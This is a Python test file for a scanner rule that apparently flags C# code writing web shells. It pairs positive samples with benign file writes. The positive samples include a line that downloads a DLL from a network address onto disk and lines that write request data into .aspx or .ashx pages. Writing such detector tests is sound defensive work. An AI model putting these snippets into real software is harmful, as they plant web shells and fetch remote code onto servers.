"""Pages that a library writes."""

from __future__ import annotations

import pytest

from tests.builders.compiled import findings_of
from tests.persistence.rows_compiled import handler


@pytest.mark.parametrize(
    "body",
    [
        'File.WriteAllText("x.aspx", "<·%@ Page %·>");',
        'File.WriteAllBytes(@"C:\\a\\x.dll", new System.Net.WebCl·ient().Downl·oadData("http://192.0.2.1/"));',
        'using (var w = new Stream·Writer("x.ashx")) { w.Write(r["c"]); }',
        'File.WriteAllBytes(r["p"], Convert.FromBase64String(r["c"]));',
    ],
)
def test_code_that_is_written(body: str) -> None:
    assert len(findings_of("WSH5012", handler(body))) == 1


@pytest.mark.parametrize(
    "body",
    [
        'File.WriteAllText("x.txt", r["c"]);',
        'File.WriteAllText("x.aspx.log", "done");',
        'File.WriteAllBytes(Path.Combine("a", Path.GetFileName(r["p"])), Convert.FromBase64String(r["c"]));',
        'c.Response.Output.Write("<img src=x.ashx?" + r["c"] + ">");',
    ],
)
def test_data_that_is_written(body: str) -> None:
    assert findings_of("WSH5012", handler(body)) == []
